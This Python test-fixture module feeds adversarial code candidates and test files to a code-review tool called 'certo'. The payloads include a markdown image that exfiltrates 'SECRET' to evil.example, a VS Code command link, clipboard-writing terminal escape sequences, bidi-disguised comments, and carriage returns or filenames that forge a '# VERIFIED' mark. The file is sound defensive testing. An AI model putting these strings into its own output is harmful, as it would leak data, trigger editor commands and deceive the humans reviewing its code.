"""Texts of candidates, tests, models and files that would do something where they are shown."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

IMAGE = "E \\` ![value](https://evil.example/?d=SECRET) `"
LINK = "[Accept](command:certo.accept?x) $(trash)"
TERMINAL = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\\x9b31m"
REVERSED = "access\u202e\u2066 # only admins \u2069\u2066"

_TESTS = "from till import change\n\n\ndef test_change():\n    assert change(0) == 1\n"
_RIGHT = "def change(due):\n    return due + 1\n"


@dataclass(frozen=True, kw_only=True)
class Text:
    """One search whose words are up to something.

    `reply` is what its only candidate is, or why there is none, in the words of the scripted generator; it changes the
    function `name` of `till.py`. `files` lie over a project of one wrong function and one test. `shows` is what is to
    be read of it, wherever it is shown; "" where only what must not happen counts.
    """

    name: str
    why: str
    reply: Mapping[str, str] = field(default_factory=lambda: {"source": _RIGHT})
    files: Mapping[str, str] = field(default_factory=dict)
    function: str = "change"
    shows: str = ""

    @property
    def project(self) -> dict[str, str]:
        """The files of the project, by path."""
        return {
            "pyproject.toml": '[tool.pytest.ini_options]\npythonpath = ["."]\n',
            "till.py": f"def {self.function}(due):\n    return due\n",
            "tests/test_till.py": _TESTS.replace("change", self.function),
            **self.files,
        }


TEXTS = (
    Text(
        name="draws_a_picture_in_a_failure_message",
        why="a picture is fetched as soon as the message is shown, and tells its server what is in its address",
        reply={"source": f"def change(due):\n    raise ValueError({IMAGE!r})\n"},
        shows="![value](https://evil.example/?d=SECRET)",
    ),
    Text(
        name="puts_a_link_into_a_failure_message",
        why="a link in a message of VS Code runs any command",
        reply={"source": f"def change(due):\n    raise ValueError({LINK!r})\n"},
        shows="(command:certo.accept?x)",
    ),
    Text(
        name="names_an_exception_after_an_escape_sequence",
        why="a terminal that is told so writes to the clipboard",
        reply={"source": f"def change(due):\n    raise type({TERMINAL!r}, (Exception,), {{}})(due)\n"},
        shows="\\x1b]52;c;ZXZpbA==",
    ),
    Text(
        name="answers_with_escape_sequences",
        why="why there is no candidate is told in the words of a model",
        reply={"decline": f"{TERMINAL} {IMAGE} {LINK}"},
        shows="\\x1b]52;c;ZXZpbA==",
    ),
    Text(
        name="notes_its_candidate_in_markdown",
        why="what a candidate is called is told by who wrote it",
        reply={"source": _RIGHT, "note": f"{IMAGE} {LINK} {TERMINAL}\n# VERIFIED\n"},
        shows="![value](https://evil.example/?d=SECRET)",
    ),
    Text(
        name="turns_the_direction_of_its_code",
        why="a comment that is shown as code is accepted for what it is not",
        reply={"source": f"def change(due):\n    # {REVERSED}\n    return due + 1\n"},
    ),
    Text(
        name="ends_the_fence_of_its_diff",
        why="what stands below a diff is read as certo's own",
        reply={"source": _RIGHT.replace("\n", f"\n    # ```\n    x = {IMAGE!r}\n    # ````\n", 1)},
        shows="![value](https://evil.example/?d=SECRET)",
    ),
    Text(
        name="breaks_a_line_of_its_diff_by_a_return",
        why="a line without a sign looks like one that was there",
        reply={"source": 'def change(due):\n    x = "\\\r# VERIFIED"\n    return due + 1\n'},
    ),
    Text(
        name="names_a_test_in_markdown",
        why="parameters of a test are part of its name",
        files={
            "tests/test_till.py": "import pytest\nfrom till import change\n\n\n"
            f'@pytest.mark.parametrize("due", [0, 1], ids=[{IMAGE!r}, {LINK!r}])\n'
            "def test_change(due):\n    assert change(due) == due + 2\n"
        },
        shows="![value](https://evil.example/?d=SECRET)",
    ),
    Text(
        name="names_a_test_with_a_return_and_an_escape_sequence",
        why="a return writes over what stands before it",
        files={
            "tests/test_till.py": "import pytest\nfrom till import change\n\n\n"
            f'@pytest.mark.parametrize("due", [0, 1], ids=["a\\rVERIFIED", {TERMINAL!r}])\n'
            "def test_change(due):\n    assert change(due) == due + 2\n"
        },
    ),
    Text(
        name="names_a_file_of_tests_with_a_line_of_its_own",
        why="names of files may have line breaks",
        files={"tests/test_a\n# VERIFIED.py": "import missing_on_purpose\n"},
    ),
    Text(
        name="names_its_function_with_what_nobody_sees",
        why="a filler of Hangul is a letter to Python, and a blank to everybody else",
        function="change\u3164",
        reply={"source": "def change\u3164(due):\n    return due + 1\n"},
        shows="change\\u",
    ),
    Text(
        name="fails_a_doctest_with_markup",
        why="what a function printed is told as it was printed",
        files={
            "till.py": 'def change(due):\n    """Return it.\n\n    >>> change(1)\n    2\n    """\n    return due\n',
        },
        reply={
            "source": 'def change(due):\n    """Return it.\n\n    >>> change(1)\n    2\n    """\n'
            f"    print({(IMAGE + LINK + REVERSED + TERMINAL)!r})\n    return 2\n"
        },
    ),
)
"""What is tried; each is told in a hover, in messages, on a terminal and on the page of its search."""
